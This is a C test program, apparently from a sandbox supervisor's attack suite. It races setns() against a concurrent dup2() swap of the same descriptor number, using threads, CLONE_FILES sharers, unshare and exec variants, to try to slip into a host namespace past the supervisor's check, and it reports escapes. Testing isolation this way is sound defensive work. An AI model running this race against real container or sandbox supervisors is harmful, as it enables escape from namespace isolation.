// SPDX-License-Identifier: Apache-2.0
/*
 * attack_swap WHO WHAT ROUNDS: changes what a descriptor number means between the look that a
 * supervisor takes and the use that the kernel makes of it.
 *
 * One task calls setns(FD); another switches FD between a namespace that is allowed (its own) and
 * one outside, with dup2(), as fast as it can. WHO is how the two share a table of descriptors:
 *
 *   thread       a thread
 *   process      a process made with CLONE_FILES
 *   leaving      a process made with CLONE_FILES that unshares its table in time for the look
 *   exiting      a CLONE_FILES process that swaps once and exits: the look finds a table of one
 * owner exec         as exiting, by exec
 *
 * WHAT is fd (a namespace descriptor) or pidfd. Prints the count of rounds to standard error; they
 * are more than ROUNDS where nothing came of those (race.h).
 */
#include "attack.h"

#include <pthread.h>
#include <sys/prctl.h>

#include "race.h"

enum { fd_number = 300, type = ns_uts, enough = 10 };

static struct shared_result* result;
static struct race race;
static int allowed, outside, flags;
static volatile int stop;
static long passed, refusals, through;

/* Back and forth until told to stop. */
static void* swap_forever(void* unused) {
  (void)unused;
  while (!stop) {
    dup2(outside, fd_number);
    dup2(allowed, fd_number);
  }
  return NULL;
}

static bool goes_on(void) {
  return through < enough && race_goes_on(&race, through > 0 || refusals > 0);
}

static void one_call(void) {
  long value = raw(SYS_setns, fd_number, flags, 0, 0, 0);
  if (value != 0) {
    refusals++;
    result->result = value;
  } else if (is_outside(place_host, type)) {
    through++;
    result->inside = 1;
    raw(SYS_setns, allowed, CLONE_NEWUTS, 0, 0, 0); /* back: the next round is a fresh one */
  } else {
    passed++;
  }
}

static void against_thread(void) {
  pthread_t thread;
  dup2(allowed, fd_number);
  if (pthread_create(&thread, NULL, swap_forever, NULL) != 0) broken("thread");
  while (goes_on()) one_call();
  stop = 1;
  pthread_join(thread, NULL);
}

static void against_process(void) {
  dup2(allowed, fd_number);
  long pid = raw(SYS_clone, CLONE_FILES | SIGCHLD, 0, 0, 0, 0);
  if (pid == 0) {
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    swap_forever(NULL);
  }
  if (pid < 0) {
    result->result = pid;
    refusals = race.rounds;
    return;
  }
  while (goes_on()) one_call();
  kill((pid_t)pid, SIGKILL);
  waitpid((pid_t)pid, NULL, 0);
}

/* A moment that is another one in each round. */
static void wait_a_little(int round, int most) {
  for (volatile int spin = 0; spin < round % most; spin++) continue;
}

enum ending { ending_exit, ending_unshare, ending_exec };

/* A new sharer for each round. It swaps at a moment that moves through the call, and is gone after.
 */
static void against_sharer(enum ending ending) {
  for (int i = 0; goes_on(); i++) {
    dup2(allowed, fd_number);
    long pid = raw(SYS_clone, CLONE_FILES | SIGCHLD, 0, 0, 0, 0);
    if (pid == 0) {
      wait_a_little(i * 37, 2000);
      dup2(outside, fd_number);
      if (ending == ending_unshare) unshare(CLONE_FILES);
      if (ending == ending_exec) execl("/proc/self/exe", "attack_swap", "nothing", (char*)NULL);
      _exit(0);
    }
    if (pid < 0) {
      result->result = pid;
      refusals++;
      continue;
    }
    wait_a_little(i * 101, 100000);
    if (is_overtime(&race)) usleep((unsigned)(i % 50) * 100); /* a sharer that is slow to begin */
    one_call();
    waitpid((pid_t)pid, NULL, 0);
  }
}

int main(int argc, char** argv) {
  if (argc == 2) return 0; /* what the exec of a sharer runs */
  if (argc != 4) {
    fprintf(stderr, "usage: attack_swap thread|process|leaving|exiting|exec fd|pidfd ROUNDS\n");
    return exit_usage;
  }
  race.rounds = atoi(argv[3]);
  flags = CLONE_NEWUTS;
  result = new_shared_result();
  allowed = open("/proc/self/ns/uts", O_RDONLY);
  outside = outside_ns_fd(place_host, type);
  if (strcmp(argv[2], "pidfd") == 0) {
    pid_t twin = fork(); /* stays where it is: a pidfd of it names the allowed namespace */
    if (twin == 0) {
      prctl(PR_SET_PDEATHSIG, SIGKILL);
      for (;;) pause();
    }
    allowed = (int)syscall(SYS_pidfd_open, twin, 0);
    outside = host_pidfd;
  }
  if (allowed < 0 || outside < 0) broken("descriptors");
  if (strcmp(argv[1], "thread") == 0) against_thread();
  if (strcmp(argv[1], "process") == 0) against_process();
  if (strcmp(argv[1], "leaving") == 0) against_sharer(ending_unshare);
  if (strcmp(argv[1], "exiting") == 0) against_sharer(ending_exit);
  if (strcmp(argv[1], "exec") == 0) against_sharer(ending_exec);
  fprintf(stderr, "# %ld inside the set, %ld refused, %ld through\n", passed, refusals, through);
  if (through) escaped();
  if (refusals == 0) finish(exit_refused, "inside", "");
  refused((int)-result->result);
}
